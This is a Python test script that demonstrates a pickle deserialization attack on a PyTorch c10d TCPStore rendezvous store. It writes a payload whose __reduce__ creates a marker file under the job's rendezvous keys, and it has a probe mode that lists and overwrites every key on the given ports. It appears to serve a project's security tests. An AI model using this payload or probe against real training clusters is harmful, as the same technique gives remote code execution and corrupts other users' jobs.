"""What a program that is not part of a job can write into its rendezvous store.

Run as ``python rdzv_attack.py HOST PORT RUN_ID MARKER``: connects to the store
(``RUN_ID`` "agreed": reads the job's id there) and writes, under every key a
c10d rendezvous state could live at (torch's and ours), a pickle that creates
``MARKER`` when unpickled, plain and base64'd.
``python rdzv_attack.py --probe HOST PORT[,PORT...] MARKER``: what a stranger
who found those ports does: connect as a TCPStore client, list and read every
key, and overwrite each with the pickle (plus the keys a job would use);
prints one JSON object per port (connected or not, the error, keys seen).
Importable too: :func:`payload` is the pickle the unit tests use.
"""

from __future__ import annotations

import base64
import json
import pickle
import sys
from datetime import timedelta


class _CreatesFile:
    """Unpickling this opens (creates) a file: proof that code ran."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (self.marker, "w"))


def payload(marker: str) -> bytes:
    """A pickle that creates ``marker`` when anything unpickles it."""
    return pickle.dumps(_CreatesFile(marker))


def keys(run_id: str) -> list[str]:
    """Where a c10d rendezvous keeps its state: torch's key and ours."""
    return [f"torch.rendezvous.{run_id}", f"manygpu.rendezvous.{run_id}"]


def attack(host: str, port: int, run_id: str, marker: str) -> None:
    from torch.distributed import TCPStore

    store = TCPStore(host, port, is_master=False, timeout=timedelta(seconds=20))
    if run_id == "agreed":  # not a secret from anyone who reaches the store
        run_id = store.get("manygpu.run_id").decode()
    bits = payload(marker)
    for key in keys(run_id):
        store.set(key, base64.b64encode(bits))
    store.set(keys(run_id)[1], bits)  # and raw, for a backend that skips base64


PLAUSIBLE = ("manygpu.run_id", "/worker/attempt_0/default_pg/0//cpu//0", "MASTER_ADDR")
"""Keys a job's stores hold or held, written even when listing keys fails."""


PROBE_S = 4
"""How long a probe waits for a store to answer: a gate that admitted it would in
milliseconds; one that does not never answers, and the probe must not wait 10 s a port."""


def probe(host: str, port: int, marker: str) -> dict[str, object]:
    """Everything a TCPStore client can do to ``host:port``, and how far it got."""
    from torch.distributed import TCPStore

    result: dict[str, object] = {"port": port, "connected": False, "keys": [], "error": ""}
    try:
        store = TCPStore(host, port, is_master=False, timeout=timedelta(seconds=PROBE_S))
        result["connected"] = True
        keys = list(store.list_keys())
        result["keys"] = keys
        for key in [*keys, *PLAUSIBLE]:
            store.set(key, payload(marker))
    except Exception as exc:  # the outcome is the data
        result["error"] = f"{type(exc).__name__}: {str(exc).splitlines()[0][:200]}"
    return result


if __name__ == "__main__":
    if sys.argv[1] == "--probe":
        for port in sys.argv[3].split(","):
            print(json.dumps(probe(sys.argv[2], int(port), sys.argv[4])), flush=True)
    else:
        attack(sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4])
